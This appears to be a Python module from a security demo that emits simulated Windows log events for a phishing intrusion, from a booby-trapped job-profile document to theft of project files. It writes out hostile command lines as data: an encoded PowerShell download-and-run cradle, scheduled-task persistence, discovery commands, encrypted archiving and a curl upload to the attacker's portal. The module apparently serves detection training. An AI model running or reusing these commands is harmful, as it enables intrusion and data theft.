"""What the recruiter's document does on the computer of the one whom no gateway protected, because
it came over a private account: step by step, until somebody cuts the computer off.

Only log entries are made; nothing of this is run anywhere.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from demo.firm import person
from demo.hosts.windows import (
    CMD,
    EDGE,
    EXPLORER,
    POWERSHELL,
    SYSTEM32,
    WORD,
    Event,
    connected,
    loaded,
    started,
    wrote,
)
from demo.mail.campaign import PORTAL, PORTAL_ADDRESS, REACHED

_WHO: Final = person(REACHED)
_HOME: Final = f"C:\\Users\\{_WHO.login}\\"
_SITE: Final = (PORTAL, PORTAL_ADDRESS)
_PAYLOAD: Final = "C:\\ProgramData\\Meridian\\colorcpl.exe"
_WSCRIPT: Final = SYSTEM32 + "wscript.exe"
HOST: Final = _WHO.host


@dataclass(frozen=True, slots=True)
class Step:
    """`after` is how many seconds after the step before, at the pace of the story."""

    name: str
    after: float
    events: Callable[[float], list[Event]]


def _opened(time: float) -> list[Event]:
    document = f"{_HOME}Downloads\\Role_Profile_Lead_Thin-Film_Engineer.docx"
    cache = f"{_HOME}AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\Q7K2M1XA\\Profile[1].dotm"
    return [
        *connected(time, _WHO, EDGE, _SITE),
        wrote(time + 0.3, _WHO, EDGE, document),
        started(time + 1.0, _WHO, WORD, f'"{WORD}" /n "{document}"', EXPLORER),
        *connected(time + 1.4, _WHO, WORD, _SITE),
        wrote(time + 1.6, _WHO, WORD, cache),
    ]


def _ran(time: float) -> list[Event]:
    script = f'wscript.exe //B "{_HOME}AppData\\Local\\Temp\\profile.vbs"'
    return [
        started(time, _WHO, _WSCRIPT, script, WORD),
        *connected(time + 0.5, _WHO, _WSCRIPT, _SITE),
        wrote(time + 0.9, _WHO, _WSCRIPT, _PAYLOAD),
        wrote(time + 1.0, _WHO, _WSCRIPT, "C:\\ProgramData\\Meridian\\colorui.dll"),
        started(time + 1.3, _WHO, _PAYLOAD, f'"{_PAYLOAD}" 8Dj2kQ', _WSCRIPT),
        loaded(time + 1.4, _WHO, _PAYLOAD, "C:\\ProgramData\\Meridian\\colorui.dll"),
        *connected(time + 1.7, _WHO, _PAYLOAD, _SITE),
    ]


def _stayed(time: float) -> list[Event]:
    task = f'schtasks.exe /create /f /sc minute /mo 30 /tn "Colour Service" /tr "{_PAYLOAD} 8Dj2kQ"'
    return [started(time, _WHO, SYSTEM32 + "schtasks.exe", task, _WSCRIPT)]


def _fetched(time: float) -> list[Event]:
    fetch = f"IEX (New-Object Net.WebClient).DownloadString('https://{PORTAL}/a')"
    encoded = base64.b64encode(fetch.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -W Hidden -enc {encoded}"
    return [
        started(time, _WHO, POWERSHELL, command, _PAYLOAD),
        *connected(time + 0.4, _WHO, POWERSHELL, _SITE),
    ]


def _looked(time: float) -> list[Event]:
    commands = ("whoami /all", "net view /domain", "ipconfig /all")
    return [
        started(time + at * 0.7, _WHO, f"{SYSTEM32}{command.split()[0]}.exe", command, POWERSHELL)
        for at, command in enumerate(commands)
    ]


def _packed(time: float) -> list[Event]:
    packer = "C:\\ProgramData\\Meridian\\7za.exe"
    command = "7za.exe a C:\\ProgramData\\Meridian\\t.7z D:\\projects\\*.lf -pX9!kd -mhe=on"
    return [
        started(time, _WHO, packer, command, CMD),
        wrote(time + 1, _WHO, packer, "C:\\ProgramData\\Meridian\\t.7z"),
    ]


def _sent(time: float) -> list[Event]:
    curl = SYSTEM32 + "curl.exe"
    command = f'curl.exe -s -F "f=@C:\\ProgramData\\Meridian\\t.7z" https://{PORTAL}/in'
    return [started(time, _WHO, curl, command, CMD), *connected(time + 0.3, _WHO, curl, _SITE)]


STEPS: Final = (
    Step("document", 0, _opened),
    Step("program", 5, _ran),
    Step("task", 5, _stayed),
    Step("second stage", 14, _fetched),
    Step("looking around", 14, _looked),
    Step("packing", 16, _packed),
    Step("sending", 12, _sent),
)
